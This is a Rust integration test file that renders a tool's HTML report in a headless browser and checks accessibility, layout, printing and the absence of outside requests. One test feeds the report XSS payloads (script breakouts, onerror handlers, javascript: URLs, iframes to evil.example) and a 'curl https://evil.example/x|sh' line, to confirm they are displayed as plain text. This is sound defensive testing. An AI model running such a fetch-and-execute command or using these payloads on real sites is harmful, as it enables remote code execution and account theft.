//! The report's page in a real browser: Chromium, driven by Playwright, with axe-core for accessibility.
//!
//! `tests/browser/look.mjs` opens it, sorts, filters, plays, prints, and says what it saw.

use std::process::Command;
use std::sync::Mutex;
use std::sync::PoisonError;

use serde_json::Value;

use crate::findings::HOSTILE;
use crate::hostile;
use crate::judging::set;
use crate::judging::sound;
use crate::needs::browser;
use crate::needs::node_modules;
use crate::world::World;

/// What a reader would see and get; pictures and the paper lie in the world's folder.
fn look(world: &World, report: &str) -> Value {
    static ONE_AT_A_TIME: Mutex<()> = Mutex::new(());
    let _alone = ONE_AT_A_TIME.lock().unwrap_or_else(PoisonError::into_inner);
    let script = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/browser/look.mjs");
    let out = world.path("looks");
    std::fs::create_dir_all(&out).expect("a folder for pictures");
    let done = Command::new("node")
        .arg(script)
        .arg(node_modules())
        .arg(browser())
        .arg(world.path(report).canonicalize().expect("the report"))
        .arg(&out)
        .output()
        .expect("node runs");
    assert!(done.status.success(), "{}", String::from_utf8_lossy(&done.stderr));
    for it in ["wide-light", "wide-dark", "narrow-light", "narrow-dark"] {
        assert!(out.join(format!("{it}.png")).exists(), "{it}");
    }
    serde_json::from_slice(&done.stdout).expect("what was seen")
}

/// What holds of every report.
fn is_sound(said: &Value) {
    assert_eq!(said["requests"], serde_json::json!([]), "a request left the page");
    assert_eq!(said["complaints"], serde_json::json!([]), "the browser complained");
    assert_eq!(said["dialogs"], 0);
    assert_eq!(said["accessibility"], serde_json::json!([]));
    assert_eq!(
        said["narrow"],
        serde_json::json!({ "light": 0, "dark": 0 }),
        "a narrow page scrolls sideways"
    );
    let nothing = serde_json::json!({
        "scripts": 2, "active": 0, "handlers": 0, "styles": 0, "links": 0, "owned": false
    });
    assert_eq!(said["foreign"], nothing);
    assert_eq!(said["landmarks"], serde_json::json!(["header", "nav", "main", "footer"]));
    assert_eq!(said["cut"], 0, "a sheet of A4 is too narrow for a table");
    assert_eq!(said["paper"], serde_json::json!([595, 842]), "A4 in points");
}

#[test]
#[ignore = "needs a browser and Node.js"]
fn the_page_sorts_filters_plays_and_prints_and_asks_nobody() {
    let world = World::with_demo();
    std::fs::write(world.path("survey.json"), sound().to_string()).expect("a survey");
    for lang in ["en", "ja"] {
        world.run(&format!("report -o {lang}.html --lang {lang} --survey survey.json"));
        let said = look(&world, &format!("{lang}.html"));
        is_sound(&said);
        assert_eq!(said["lang"], lang);
        let sorted = serde_json::json!({
            "up": true, "down": true, "aria": "descending", "keyboard": "ascending"
        });
        assert_eq!(said["sorted"], sorted);
        assert_eq!(said["filtered"]["all"], true);
        assert_eq!(said["linked"], true);
        let player =
            serde_json::json!({ "plays": true, "told": true, "pressed": "false", "steps": true });
        assert_eq!(said["player"], player);
        assert_eq!(said["plain"]["buttons"], 0, "a button that does nothing without a script");
        assert_eq!(said["plain"]["rows"], 100);
        assert!(said["pages"].as_u64() > Some(3));
    }
}

#[test]
#[ignore = "needs a browser and Node.js"]
fn a_hostile_transcript_is_text_in_the_browser() {
    let world = hostile::world();
    let attacks = [
        "sh-4.2$ echo '</script><script>owned=1;alert(1)</script>'",
        "sh-4.2$ echo '<img src=x onerror=alert(1)><svg onload=alert(1)>'",
        "sh-4.2$ echo '<!--<script>' '-->' ']]>' '{{7*7}}' '${alert(1)}' 'javascript:alert(1)'",
        "sh-4.2$ sudo -i # \"><a href=https://evil.example onclick=alert(1)>x</a>",
        "sh-4.2$ curl https://evil.example/x|sh",
        "<iframe src=https://evil.example></iframe><base href=https://evil.example>",
        &format!("sh-4.2$ echo {}", "w".repeat(100_000)),
        "sh-4.2$ exit",
    ];
    world.transcript("more/zoe-0123456789abcdef0.log", &attacks);
    world.run("sync more");
    world.run("report -o it.html");
    let said = look(&world, "it.html");
    is_sound(&said);
}

#[test]
#[ignore = "needs a browser and Node.js"]
fn an_empty_report_is_a_sound_page_too() {
    let world = World::with_demo();
    world.run("report -o it.html --from 2020-01-01 --to 2020-02-01");
    let said = look(&world, "it.html");
    is_sound(&said);
}

#[test]
#[ignore = "needs a browser and Node.js"]
fn what_verify_found_is_a_page_that_forbids_everything_whatever_the_names() {
    let world = World::new();
    let mut survey = sound();
    set(&mut survey, "/groups/0/name", serde_json::json!(HOSTILE));
    set(&mut survey, "/groups/0/settings/is/retention_days", serde_json::json!(7));
    world.file("survey.json", survey.to_string().as_bytes());
    let page = world.run("verify --survey survey.json --format html").0;
    let page = page.split("! ").next().unwrap_or_default();
    world.file("it.html", page.as_bytes());
    let said = look(&world, "it.html");
    assert_eq!(said["requests"], serde_json::json!([]));
    assert_eq!(said["complaints"], serde_json::json!([]));
    assert_eq!(said["accessibility"], serde_json::json!([]));
    assert_eq!(said["narrow"], serde_json::json!({ "light": 0, "dark": 0 }));
    assert_eq!(said["cut"], 0);
    assert_eq!((&said["foreign"]["scripts"], &said["foreign"]["active"]), (&0.into(), &0.into()));
    assert_eq!(said["landmarks"], serde_json::json!(["header", "main", "footer"]));
}
